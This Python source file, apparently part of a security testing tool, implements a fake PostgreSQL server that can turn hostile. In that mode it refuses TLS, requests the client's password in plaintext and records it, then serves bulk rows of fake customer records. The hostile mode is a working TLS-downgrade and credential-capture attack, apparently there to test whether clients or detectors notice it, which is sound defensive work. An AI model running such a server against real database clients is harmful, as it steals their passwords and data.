"""A PostgreSQL server that, once hostile, claims to have no TLS and requests a plaintext password.

A man in the middle can respond ``N`` to the SSLRequest. A client that only prefers TLS goes on in
plaintext and sends its password. The server also returns any number of rows: a bulk read through an ordinary
statement.
"""

import struct
from collections.abc import Sequence

from backwatch.attack.protocols.server import MAX_KEPT, HostileServer, ServerSession

_SSL_REQUEST, _GSS_REQUEST, _CANCEL = 80877103, 80877104, 80877102
_PASSWORD_IN_CLEAR = 3
_TEXT_OID = 25


class PostgreSQL(HostileServer):
    """Returns customers; once hostile, offers no TLS."""

    name = "postgresql"
    attack = "refuses TLS, and asks for the password in clear"
    reference = "https://www.postgresql.org/docs/current/libpq-ssl.html"
    driver = "psycopg"
    rule = "tls-stripped"

    rows = 20
    """Rows of a SELECT's result."""
    version = "15.10"
    """Version that the server announces."""

    def serve(self, session: ServerSession) -> None:
        """Serve TLS, the login, then statements in both protocols."""
        if not self._start(session):
            return
        self.log_in(session)
        send(session, b"R", struct.pack("!I", 0))
        for name, value in self.parameters().items():
            send(session, b"S", name.encode() + b"\0" + value.encode() + b"\0")
        send(session, b"K", struct.pack("!II", 4711, 1))
        _Conversation(self, session).talk()

    def offers_tls(self) -> bool:
        """Return whether the server agrees to TLS now."""
        return not self.hostile

    def log_in(self, session: ServerSession) -> None:
        """Request the user name; accept any login."""
        if self.hostile:
            self.take_password(session)

    def take_password(self, session: ServerSession) -> None:
        """Request the password in plaintext, and record it."""
        send(session, b"R", struct.pack("!I", _PASSWORD_IN_CLEAR))
        self.on_leak(receive(session).rstrip(b"\0"))

    def parameters(self) -> dict[str, str]:
        """Return the parameters that the server reports after login."""
        return {"server_version": self.version, "client_encoding": "UTF8", "standard_conforming_strings": "on"}

    def statements(self, text: bytes) -> Sequence[bytes]:
        """Return the statements of a simple query."""
        return [text]

    def columns(self, statement: bytes) -> Sequence[bytes]:
        """Return the column names of a statement's result, or none if it returns no rows.

        Raises:
            RefusedError: The server refuses the statement.
        """
        return (b"id", b"name", b"mail") if statement.lstrip()[:6].upper() == b"SELECT" else ()

    def answers(self, session: ServerSession, statement: bytes) -> bool:
        """Respond to a statement in a special way, without ReadyForQuery.

        Returns:
            Whether it responded. If not, the default response follows.

        Raises:
            RefusedError: The server refuses the statement.
        """
        del session, statement
        return False

    def _start(self, session: ServerSession) -> bool:
        while True:
            (length,) = struct.unpack("!I", session.read(4))
            body = session.read(length - 4)
            (code,) = struct.unpack("!I", body[:4])
            if code == _SSL_REQUEST and self.offers_tls():
                session.send(b"S")
                session.secure()
            elif code in (_SSL_REQUEST, _GSS_REQUEST):
                session.send(b"N")
            else:
                return code != _CANCEL


def send(session: ServerSession, kind: bytes, body: bytes = b"") -> None:
    """Send one message to the client."""
    session.send(kind + struct.pack("!I", len(body) + 4) + body)


def receive(session: ServerSession) -> bytes:
    """Return the body of the client's next message."""
    session.read(1)
    (length,) = struct.unpack("!I", session.read(4))
    return session.read(length - 4)


def row(values: Sequence[bytes | None]) -> bytes:
    """Return a message with one row."""
    encoded = [b"\xff" * 4 if value is None else struct.pack("!I", len(value)) + value for value in values]
    body = struct.pack("!H", len(encoded)) + b"".join(encoded)
    return b"D" + struct.pack("!I", len(body) + 4) + body


class RefusedError(Exception):
    """A statement that the server refuses: SQLSTATE and message."""

    def __init__(self, code: str, message: str) -> None:
        super().__init__(message)
        self.body = f"SERROR\0C{code}\0M{message}\0\0".encode()


class _Conversation:
    """Statements and responses after login."""

    def __init__(self, server: PostgreSQL, session: ServerSession) -> None:
        self._server = server
        self._session = session
        self._prepared: dict[bytes, bytes] = {}
        self._portal = b""
        self._in_transaction = False
        self._skipping = False

    def talk(self) -> None:
        self._ready()
        while True:
            kind = self._session.read(1)
            (length,) = struct.unpack("!I", self._session.read(4))
            body = self._session.read(length - 4)
            if kind == b"X":
                return
            if kind == b"Q":
                self._simple(body.rstrip(b"\0"))
            elif kind == b"S":
                self._skipping = False
                self._ready()
            elif not self._skipping:
                try:
                    self._extended(kind, body)
                except RefusedError as refused:
                    send(self._session, b"E", refused.body)
                    self._skipping = True

    def _simple(self, text: bytes) -> None:
        try:
            for statement in self._server.statements(text):
                if names := self._server.columns(statement):
                    self._describe(names)
                self._execute(statement)
        except RefusedError as refused:
            send(self._session, b"E", refused.body)
        self._ready()

    def _extended(self, kind: bytes, body: bytes) -> None:
        if kind == b"P":
            name, statement, _ = body.split(b"\0", 2)
            if len(self._prepared) >= MAX_KEPT:
                self._prepared.clear()
            self._prepared[name] = statement
            send(self._session, b"1")
        elif kind == b"B":
            self._portal = self._prepared.get(body.split(b"\0", 2)[1], b"")
            send(self._session, b"2")
        elif kind == b"D":
            statement = self._prepared.get(body[1:].rstrip(b"\0"), b"") if body[:1] == b"S" else self._portal
            if body[:1] == b"S":
                count = len({part[:1] for part in statement.split(b"$")[1:]})
                send(self._session, b"t", struct.pack("!H", count) + struct.pack("!I", _TEXT_OID) * count)
            self._describe(self._server.columns(statement))
        elif kind == b"E":
            self._execute(self._portal)
        elif kind == b"C":
            send(self._session, b"3")

    def _ready(self) -> None:
        send(self._session, b"Z", b"T" if self._in_transaction else b"I")

    def _describe(self, names: Sequence[bytes]) -> None:
        if not names:
            send(self._session, b"n")
            return
        columns = b"".join(name + b"\0" + struct.pack("!IHIhih", 0, 0, _TEXT_OID, -1, -1, 0) for name in names)
        send(self._session, b"T", struct.pack("!H", len(names)) + columns)

    def _execute(self, statement: bytes) -> None:
        if self._server.answers(self._session, statement):
            return
        verb = statement.split(None, 1)[0].upper() if statement.split() else b""
        if verb == b"SELECT":
            count = self._server.rows
            self._session.send(b"".join(_customer(i) for i in range(count)))
            send(self._session, b"C", b"SELECT %d\0" % count)
        elif not verb:
            send(self._session, b"I")
        else:
            self._in_transaction = verb == b"BEGIN" or (self._in_transaction and verb not in (b"COMMIT", b"ROLLBACK"))
            tag = {b"INSERT": b"INSERT 0 1", b"UPDATE": b"UPDATE 1", b"DELETE": b"DELETE 1"}.get(verb, verb)
            send(self._session, b"C", tag + b"\0")


def _customer(i: int) -> bytes:
    return row((b"%d" % i, b"customer %d" % i, b"customer%d@shop.example" % i))
